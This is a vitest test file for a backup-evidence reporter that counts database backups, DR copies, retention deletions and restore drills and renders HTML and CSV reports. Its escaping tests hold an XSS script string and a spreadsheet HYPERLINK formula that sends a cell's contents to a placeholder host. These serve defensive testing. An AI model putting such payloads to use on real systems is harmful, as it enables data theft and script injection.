import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../../shared/config/schema.js';
import { buildEvidence, monthRange, monthsEnding, previousMonth } from '../../../shared/report/evidence.js';
import { renderDatabasesCsv, renderDrillsCsv, renderEvidenceHtml } from '../../../shared/report/render.js';
import { evidenceNotification } from '../../../shared/report/monthly.js';
import type { Snapshot } from '../../../shared/model.js';
import type { RetentionRecord } from '../../../shared/retention/record.js';
import { EVIDENCE_MONTH, EVIDENCE_NOW, evidenceConfig, evidenceInputs } from '../../fakes/evidence-estate.js';

const report = () => buildEvidence(evidenceInputs(), evidenceConfig, EVIDENCE_NOW);
const row = (id: string) => report().databases.find((d) => d.id === id)!;

describe('buildEvidence', () => {
  it('counts scheduled backups against what is listed and what retention recorded deleting', () => {
    // Act
    const orders = row('orders-db');
    // Assert: 1–9 November were deleted on 1 December (their record is the evidence), 14 November never ran.
    expect(orders.backups).toMatchObject({
      scheduled: 30,
      taken: 29,
      missed: ['2026-11-14T03:00:00.000Z'],
      adhoc: 1,
    });
    expect(orders.retention).toEqual({ deleted: 3, failed: 0 });
  });

  it('lists the missed backups at the end of the month and the DR lag they cause', () => {
    // Act
    const billing = row('billing-db');
    // Assert
    expect(billing.backups?.missed).toEqual([
      '2026-11-28T03:00:00.000Z',
      '2026-11-29T03:00:00.000Z',
      '2026-11-30T03:00:00.000Z',
    ]);
    expect(billing.dr).toMatchObject({ region: 'us-west-2', copies: 27, notCopied: [] });
    expect(billing.dr!.lagByDay).toHaveLength(30);
    // At the end of 30 November the newest copy holds data of 27 November 03:00.
    expect(billing.dr!.lagByDay[29]).toBe(3 * 86_400 + 21 * 3600);
  });

  it('measures DR lag from the copy time, so a late copy shows', () => {
    // Act: orders-db's copy of 21 November started 30 hours after the backup.
    const lag = row('orders-db').dr!.lagByDay;
    // Assert
    expect(lag[20]).toBe(45 * 3600);
    expect(lag[21]).toBe(21 * 3600 + 3600 * 0);
  });

  it('counts a newly protected database from its first backup and says so', () => {
    expect(row('sessions').backups).toMatchObject({
      scheduled: 7,
      taken: 7,
      countedFrom: { at: '2026-11-24T03:00:00.000Z', why: 'first backup on record' },
    });
  });

  it("keeps the month's drills per database and a trend of the last twelve months", () => {
    // Act
    const r = report();
    // Assert
    expect(row('orders-db').drills).toHaveLength(1);
    expect(r.trend['orders-db']).toHaveLength(12);
    expect(r.trend['orders-db']!.find((d) => d.startedAt.startsWith('2026-08'))).toMatchObject({
      passed: false,
      rtoSeconds: 3900,
    });
    expect(r.trendMonths).toHaveLength(12);
  });

  it('sums the month and names the unprotected database', () => {
    const r = report();
    expect(r.summary).toEqual({
      databases: 5,
      protected: 4,
      unprotected: 1,
      backupsScheduled: 97,
      backupsTaken: 93,
      backupsMissed: 4,
      drCopies: 86,
      drCopiesMissing: 0,
      retentionDeleted: 3,
      drills: 2,
      drillsPassed: 2,
      drillsInconclusive: 0,
      drillInstanceHours: 0,
    });
    expect(r.complete).toBe(true);
    expect(row('legacy-db').backups).toBeUndefined();
    expect(row('legacy-db').policy).toBeUndefined();
    expect(r.databases.map((d) => d.id)).not.toContain('ledger-1');
  });

  it('a read replica tagged like its source is covered by the source: no backups of its own counted as missed', () => {
    // Prepare: billing-db's replica, tagged daily too (backup skips it: replica-covered).
    const i = evidenceInputs();
    const replica = {
      ...i.databases.find((d) => d.id === 'billing-db')!,
      id: 'billing-ro',
      arn: 'arn:aws:rds:eu-west-1:111122223333:db:billing-ro',
      replicaOf: 'billing-db',
    };
    // Act
    const r = buildEvidence({ ...i, databases: [...i.databases, replica] }, evidenceConfig, EVIDENCE_NOW);
    // Assert
    const ro = r.databases.find((d) => d.id === 'billing-ro')!;
    expect(ro).toMatchObject({ replicaOf: 'billing-db', coveredBy: 'billing-db' });
    expect(ro.policy).toBeUndefined();
    expect(ro.backups).toBeUndefined();
    expect(r.summary.backupsMissed).toBe(report().summary.backupsMissed);
  });

  it('counts a read replica of an untagged source as unprotected: nothing backs it up', () => {
    // Prepare: legacy-db has no steward:backup tag, and neither has its replica
    const i = evidenceInputs();
    const replica = {
      ...i.databases.find((d) => d.id === 'legacy-db')!,
      id: 'legacy-ro',
      arn: 'arn:aws:rds:eu-west-1:111122223333:db:legacy-ro',
      replicaOf: 'legacy-db',
    };

    // Act
    const r = buildEvidence({ ...i, databases: [...i.databases, replica] }, evidenceConfig, EVIDENCE_NOW);
    const html = renderEvidenceHtml(r);
    const n = evidenceNotification(r, undefined);

    // Assert: counted, listed and badged like its source, as steward status calls it UNPROTECTED
    expect(r.summary).toMatchObject({ databases: 6, protected: 4, unprotected: 2 });
    expect(html).toContain('Not protected (no <code>steward:backup</code> tag): legacy-db, legacy-ro.');
    expect(html).not.toContain('replica of legacy-db');
    expect(n.lines[0]).toBe('Databases: 4 of 6 protected, 2 without a steward:backup tag.');
  });

  it("counts a Redis drill on its replication group's row, filed under its drill.caches name", () => {
    // Prepare: drill name "web-sessions" drills replication group "sessions"; its reports carry the drill name
    const cache = { replicationGroupId: 'sessions' } as (typeof evidenceConfig.drill.caches)[string];
    const config = {
      ...evidenceConfig,
      drill: { ...evidenceConfig.drill, caches: { 'web-sessions': cache } },
    };
    const i = evidenceInputs();
    const ledgerDrill = i.drills.find(
      (d) => d.database === 'ledger' && d.startedAt.startsWith(EVIDENCE_MONTH),
    )!;
    const cacheDrill = { ...ledgerDrill, drillId: 'web-sessions-drill', database: 'web-sessions' };

    // Act
    const r = buildEvidence({ ...i, drills: [...i.drills, cacheDrill] }, config, EVIDENCE_NOW);

    // Assert
    const sessions = r.databases.find((d) => d.id === 'sessions')!;
    expect(sessions.drillTarget).toBeDefined();
    expect(sessions.drills.map((d) => d.drillId)).toEqual(['web-sessions-drill']);
    expect(r.summary.drills).toBe(report().summary.drills + 1);
  });

  it('says which scheduled drills did not run: the drills that ran can all pass while others never started', () => {
    // Prepare: ledger's November drill (scheduled 1 November 05:00) never ran; orders-db's did, and passed
    const i = evidenceInputs();
    const inputs = {
      ...i,
      drills: i.drills.filter((d) => !(d.database === 'ledger' && d.startedAt.startsWith(EVIDENCE_MONTH))),
    };

    // Act
    const r = buildEvidence(inputs, evidenceConfig, EVIDENCE_NOW);
    const html = renderEvidenceHtml(r);
    const n = evidenceNotification(r, undefined);

    // Assert: not "1 / 1 passed" in green: the missed drill is counted, named and coloured
    expect(r.databases.find((d) => d.id === 'ledger')!.drillsMissed).toEqual(['2026-11-01T05:00:00.000Z']);
    expect(r.databases.find((d) => d.id === 'orders-db')!.drillsMissed).toBeUndefined();
    expect(r.summary).toMatchObject({ drills: 1, drillsPassed: 1, drillsMissed: 1 });
    expect(html).toContain(
      '<div class="v late">1 / 1</div><div class="l">restore drills passed, 1 scheduled not run</div>',
    );
    expect(html).toContain('Scheduled drills that did not run: ledger 2026-11-01 05:00 UTC.');
    expect(n.subject).toBe(
      '2026-11 recovery evidence: 93/97 scheduled backups, 1/1 drills passed, 1 drill not run, 1 unprotected',
    );
    expect(n.lines).toContain('Restore drills: 1 of 1 passed; scheduled but not run: ledger 2026-11-01.');
    // The fixture as recorded ran every scheduled drill.
    expect(report().summary.drillsMissed).toBeUndefined();
  });

  it('counts only up to the backup grace in a month that is still running, and says it is partial', () => {
    // Act: 23 November 04:00 is inside the 2 h grace of that day's 03:00 backup.
    const r = buildEvidence(evidenceInputs(), evidenceConfig, new Date('2026-11-23T04:00:00Z'));
    // Assert
    expect(r.complete).toBe(false);
    expect(r.databases.find((d) => d.id === 'ledger')!.backups?.scheduled).toBe(22);
  });

  it("counts a midnight backup in its own month only: the next month's first fire is not this month's", () => {
    // Prepare: a daily backup at 00:00 UTC, taken every day from 1 November to 1 December.
    const config = parseConfig(
      {
        ...evidenceConfig,
        backup: {
          policies: {
            daily: { schedule: 'cron(0 0 * * ? *)', kinds: ['rds-instance', 'aurora-cluster'] },
            cache: { kinds: ['elasticache'], retention: 'cache' },
          },
        },
        retention: evidenceConfig.retention,
      },
      'test',
    );
    const inputs = evidenceInputs();
    const midnights: Snapshot[] = Array.from({ length: 31 }, (_, i) => {
      const t = new Date(Date.UTC(2026, 10, 1 + i));
      const id = `ledger-${t.toISOString().slice(0, 10).replace(/-/g, '')}0000-sched`;
      return {
        kind: 'aurora-cluster',
        id,
        arn: `arn:aws:rds:eu-west-1:111122223333:cluster-snapshot:${id}`,
        region: 'eu-west-1',
        sourceId: 'ledger',
        createdAt: new Date(t.getTime() + 60_000).toISOString(),
        status: 'available',
        type: 'manual',
        tags: { 'steward:managed': 'true', 'steward:policy': 'daily', 'steward:source': 'ledger' },
      };
    });

    // Act
    const ledger = buildEvidence(
      { ...inputs, snapshots: [...inputs.snapshots.filter((x) => x.sourceId !== 'ledger'), ...midnights] },
      config,
      EVIDENCE_NOW,
    ).databases.find((d) => d.id === 'ledger')!;

    // Assert: November has 30 midnights; 1 December 00:00 is December's (on main: 31 scheduled, 31 taken).
    expect(ledger.backups).toMatchObject({ scheduled: 30, taken: 30, missed: [] });
  });

  it('says which DR copies of the month it could not judge yet: the last backups inside the DR grace', () => {
    // Prepare: a daily backup at 22:00 UTC copied to DR within the hour, except 30 November's. At 1 December
    // 06:00 (the default schedule) that backup is 8 h old, inside the 12 h DR grace.
    const config = parseConfig(
      {
        ...evidenceConfig,
        backup: {
          policies: {
            daily: { schedule: 'cron(0 22 * * ? *)', copyToDr: true, kinds: ['aurora-cluster'] },
            cache: { kinds: ['elasticache'], retention: 'cache' },
          },
        },
        retention: evidenceConfig.retention,
      },
      'test',
    );
    const at22 = (day: number, region: string, copied?: boolean): Snapshot => {
      const t = new Date(Date.UTC(2026, 10, day, 22));
      const id = `ledger-${t.toISOString().slice(0, 10).replace(/-/g, '')}2200-sched`;
      return {
        kind: 'aurora-cluster',
        id,
        arn: `arn:aws:rds:${region}:111122223333:cluster-snapshot:${id}`,
        region,
        sourceId: 'ledger',
        createdAt: new Date(t.getTime() + 60_000).toISOString(),
        status: 'available',
        type: 'manual',
        tags: { 'steward:managed': 'true', 'steward:policy': 'daily', 'steward:source': 'ledger' },
        ...(copied
          ? { copiedAt: new Date(t.getTime() + 3_600_000).toISOString(), sourceRegion: 'eu-west-1' }
          : {}),
      };
    };
    const november = Array.from({ length: 30 }, (_, i) => i + 1);
    const inputs = {
      ...evidenceInputs(),
      snapshots: november.map((d) => at22(d, 'eu-west-1')),
      drSnapshots: november.filter((d) => d < 30).map((d) => at22(d, 'us-west-2', true)),
      retention: [],
    };

    // Act
    const r = buildEvidence(inputs, config, EVIDENCE_NOW);
    const ledger = r.databases.find((d) => d.id === 'ledger')!;

    // Assert: not "copied", not "missing": not judged yet, and said so (on main it was left out unsaid).
    expect(ledger.dr).toMatchObject({ copies: 29, notCopied: [], pending: ['2026-11-30T22:00:00.000Z'] });
    expect(r.summary.drCopiesPending).toBe(1);
    expect(r.notes.join('\n')).toContain('1 DR copy not judged yet');
    expect(renderEvidenceHtml(r)).toContain('1 not judged yet');
    expect(evidenceNotification(r, undefined).lines.join('\n')).toContain(
      '1 not judged yet (inside the DR grace)',
    );
  });

  it('cannot match a rate() schedule to times, so counts what was taken', () => {
    // Prepare
    const config = parseConfig(
      {
        ...evidenceConfig,
        backup: {
          policies: {
            daily: { schedule: 'rate(1 day)', kinds: ['rds-instance', 'aurora-cluster'] },
            cache: { kinds: ['elasticache'], retention: 'cache' },
          },
        },
        retention: evidenceConfig.retention,
      },
      'test',
    );
    // Act
    const ledger = buildEvidence(evidenceInputs(), config, EVIDENCE_NOW).databases.find(
      (d) => d.id === 'ledger',
    )!;
    // Assert
    expect(ledger.backups).toMatchObject({ scheduled: null, taken: 30, missed: [] });
  });
});

describe('months', () => {
  it.each([
    ['2026-11', '2026-11-01T00:00:00.000Z', '2026-12-01T00:00:00.000Z'],
    ['2026-12', '2026-12-01T00:00:00.000Z', '2027-01-01T00:00:00.000Z'],
  ])('%s runs from %s to %s', (m, from, to) => {
    const { start, end } = monthRange(m);
    expect([start.toISOString(), end.toISOString()]).toEqual([from, to]);
  });

  it('reports on the month before a run and lists trend windows across a year boundary', () => {
    expect(previousMonth(new Date('2027-01-01T06:00:00Z'))).toBe('2026-12');
    expect(monthsEnding('2027-02', 3)).toEqual(['2026-12', '2027-01', '2027-02']);
    expect(() => monthRange('2026-13')).toThrow(/YYYY-MM/);
  });
});

describe('drills that proved nothing, and what drills cost', () => {
  // orders-db's drill of the month: the verifier ran out of time; the copy ran 1.5 instance-hours.
  const withInconclusive = () => {
    const inputs = evidenceInputs();
    const month = inputs.drills.filter((d) => d.startedAt.startsWith(EVIDENCE_MONTH));
    const target = month.find((d) => d.database === 'orders-db')!;
    inputs.drills = inputs.drills.map((d) =>
      d === target
        ? {
            ...d,
            passed: false,
            outcome: 'inconclusive' as const,
            gaps: ['row-count public.ledger: not finished in 120 s'],
            cost: { instanceHours: 1.5, estimatedUsd: 0.27 },
          }
        : d.startedAt.startsWith(EVIDENCE_MONTH)
          ? { ...d, cost: { instanceHours: 0.5, estimatedUsd: 0.09 } }
          : d,
    );
    return buildEvidence(inputs, evidenceConfig, EVIDENCE_NOW);
  };

  it("counts an inconclusive drill apart from passed and failed, and sums the month's drill cost", () => {
    // Act
    const r = withInconclusive();
    // Assert
    expect(r.summary).toMatchObject({
      drills: 2,
      drillsPassed: 1,
      drillsInconclusive: 1,
      drillInstanceHours: 2,
      drillEstimatedUsd: 0.36,
    });
  });

  it('shows INCONCLUSIVE with the gap (not FAILED) and the cost of each drill, in the page and the CSV', () => {
    // Act
    const r = withInconclusive();
    const html = renderEvidenceHtml(r);
    const csvLines = renderDrillsCsv(r).split('\r\n');
    // Assert
    expect(html).toContain('INCONCLUSIVE');
    expect(html).toContain('row-count public.ledger: not finished in 120 s');
    expect(html).not.toContain('FAILED');
    expect(html).toContain('1.5 h, ~$0.27');
    expect(html).toContain('~$0.36');
    expect(html).toContain('drill copies: 2 instance-hours, estimated');
    expect(csvLines[0]).toMatch(/,outcome,.*,instance_hours,estimated_usd$/);
    expect(csvLines.find((l) => l.includes(',orders-db,'))).toMatch(
      /,inconclusive,.*,row-count public\.ledger: not finished in 120 s,1\.5,0\.27$/,
    );
  });
});

describe('renderEvidenceHtml and the CSVs', () => {
  it('is one self-contained page: inline CSS and SVG, no scripts, no external resources', () => {
    // Act
    const html = renderEvidenceHtml(report(), { drLagLimitSeconds: 36 * 3600 });
    // Assert
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).not.toMatch(/<script|<link|\ssrc=|url\(|@import/i);
    expect(html.match(/data-chart="rto"/g)).toHaveLength(2);
    expect(html.match(/data-chart="rpo"/g)).toHaveLength(2);
    expect(html).toContain('data-chart="dr-lag"');
    expect(html).toContain('data-table="backups"');
    expect(html).toContain('data-table="drills"');
    expect(html).toContain('2026-11-14 03:00 UTC');
  });

  it('escapes what users and databases write (ids, check details)', () => {
    // Prepare
    const inputs = evidenceInputs();
    inputs.drills = inputs.drills.map((d) => ({
      ...d,
      checks: [{ name: '<script>alert(1)</script>', kind: 'assertion', passed: true, detail: '"&' }],
    }));
    // Act
    const html = renderEvidenceHtml(buildEvidence(inputs, evidenceConfig, EVIDENCE_NOW));
    // Assert
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&quot;&amp;');
  });

  it('writes RFC 4180 CSV, quoting what needs it', () => {
    // Act
    const dbs = renderDatabasesCsv(report());
    const drills = renderDrillsCsv(report());
    // Assert
    const lines = dbs.split('\r\n');
    expect(lines[0]).toBe(
      'month,database,kind,engine,policy,schedule,scheduled,taken,missed,unscheduled,pre_change,dr_copies,dr_not_copied,dr_max_lag_seconds,retention_deleted,retention_failed,dumps_deleted,dumps_failed,drills,drills_passed',
    );
    expect(lines).toContain(
      '2026-11,billing-db,rds-instance,postgres,daily,cron(0 3 * * ? *),30,27,3,0,0,27,0,334800,0,0,,,0,0',
    );
    expect(lines).toContain('2026-11,legacy-db,rds-instance,mysql,UNPROTECTED,,,,,,,,,,0,0,,,0,0');
    expect(drills.split('\r\n')).toHaveLength(4);
    expect(renderDrillsCsv({ ...report(), month: 'a,"b"' }).split('\r\n')[1]).toMatch(/^"a,""b""",/);
  });

  it('never writes a cell a spreadsheet runs as a formula: a tag value is data, not a command', () => {
    // Prepare: anyone who may tag the database sets its steward:backup tag to a formula.
    const inputs = evidenceInputs();
    const formula = '=HYPERLINK("https://x.invalid/?d="&A1,"open")';
    const tagged = {
      ...inputs,
      databases: inputs.databases.map((d) =>
        d.id === 'legacy-db' ? { ...d, tags: { ...d.tags, 'steward:backup': formula } } : d,
      ),
    };

    // Act
    const line = renderDatabasesCsv(buildEvidence(tagged, evidenceConfig, EVIDENCE_NOW))
      .split('\r\n')
      .find((l) => l.includes('legacy-db'))!;

    // Assert: the cell keeps the text, led by a quote (OWASP's CSV injection advice); on main it began with =.
    const policy = line.split(',').slice(4).join(',');
    expect(policy.startsWith('"\'=HYPERLINK(')).toBe(true);
  });

  it('names the month of an empty estate without failing', () => {
    const html = renderEvidenceHtml(
      buildEvidence(
        { month: EVIDENCE_MONTH, databases: [], snapshots: [], drSnapshots: [], retention: [], drills: [] },
        evidenceConfig,
        EVIDENCE_NOW,
      ),
    );
    expect(html).toContain('November 2026');
    expect(html).toContain('No drill ran this month.');
  });
});

describe('an EC2 instance whose dumps retention deleted', () => {
  const I = 'i-0abc1234def567890';
  const config = parseConfig(
    {
      ...evidenceConfig,
      backup: {
        policies: {
          ...evidenceConfig.backup.policies,
          mongo: { schedule: 'cron(0 3 * * ? *)', retention: 'standard', kinds: ['ebs'] },
        },
      },
      retention: evidenceConfig.retention,
    },
    'test',
  );
  const day = (d: number) => new Date(Date.UTC(2026, 10, d, 3));
  const stamp = (d: number) => `2026${'11'}${String(d).padStart(2, '0')}0300`;
  const setId = (d: number) => `steward-${I}-${stamp(d)}-sched`;
  const entry = (id: string, d: number) => ({
    id,
    kind: 'ebs' as const,
    region: 'eu-west-1',
    sourceId: I,
    createdAt: new Date(day(d).getTime() + 60_000).toISOString(),
    policy: 'standard',
    reason: 'expired (standard: daily 30)',
    status: 'deleted' as const,
  });
  const dumpKey = (d: number) => `steward/mongo/${I}/${setId(d)}.dump`;
  const inputs = (dumpMark: boolean) => {
    const base = evidenceInputs();
    // Sets listed for 2–30 November except the 14th; retention deleted the 1st's set and the dumps of
    // the 1st and the 14th (the 14th's set was never taken: its dump alone is not a snapshot set).
    const sets: Snapshot[] = Array.from({ length: 29 }, (_, i) => i + 2)
      .filter((d) => d !== 14)
      .map((d) => ({
        kind: 'ebs',
        id: setId(d),
        arn: `arn:aws:ec2:eu-west-1:111122223333:snapshot/snap-0${d}`,
        region: 'eu-west-1',
        sourceId: I,
        createdAt: new Date(day(d).getTime() + 60_000).toISOString(),
        status: 'available',
        type: 'manual',
        tags: { 'steward:managed': 'true', 'steward:policy': 'mongo', 'steward:source': I },
      }));
    const dump = (d: number) => ({
      ...entry(`s3://dumps/${dumpKey(d)}`, d),
      ...(dumpMark ? { dump: true as const } : {}),
    });
    const record: RetentionRecord = {
      type: 'steward-retention-record',
      version: 1,
      at: '2026-11-20T04:30:00.000Z',
      entries: [entry(setId(1), 1), dump(1), dump(14)],
      deferred: 0,
    };
    return {
      ...base,
      databases: [
        ...base.databases,
        {
          kind: 'ebs' as const,
          id: I,
          arn: `arn:aws:ec2:eu-west-1:111122223333:instance/${I}`,
          region: 'eu-west-1',
          engine: 'ec2',
          status: 'running',
          tags: { 'steward:backup': 'mongo' },
          createdAt: '2024-03-01T00:00:00.000Z',
        },
      ],
      snapshots: [...base.snapshots, ...sets],
      retention: [...base.retention, record],
    };
  };

  it.each([
    ['marked as a dump', true],
    ['in a record written before dumps were marked (an s3:// id)', false],
  ])('never counts a deleted dump %s as a backup taken: the missing set stays missed', (_, marked) => {
    // Act
    const r = buildEvidence(inputs(marked), config, EVIDENCE_NOW);
    const ec2 = r.databases.find((d) => d.id === I)!;
    // Assert
    expect(ec2.backups).toMatchObject({
      scheduled: 30,
      taken: 29,
      missed: ['2026-11-14T03:00:00.000Z'],
      unscheduled: 0,
    });
    expect(ec2.retention).toEqual({ deleted: 1, failed: 0, dumps: { deleted: 2, failed: 0 } });
    expect(r.summary.retentionDeleted).toBe(3 + 1);
    expect(r.summary.dumpsDeleted).toBe(2);
  });

  it('shows the dumps deleted apart from the snapshots, in the page and the CSV', () => {
    // Act
    const r = buildEvidence(inputs(true), config, EVIDENCE_NOW);
    const csv = renderDatabasesCsv(r).split('\r\n');
    // Assert
    expect(csv[0]).toMatch(/,retention_deleted,retention_failed,dumps_deleted,dumps_failed,drills,/);
    expect(csv.find((l) => l.includes(I))).toMatch(/,1,0,2,0,0,0$/);
    expect(renderEvidenceHtml(r)).toContain('2 dumps');
  });
});
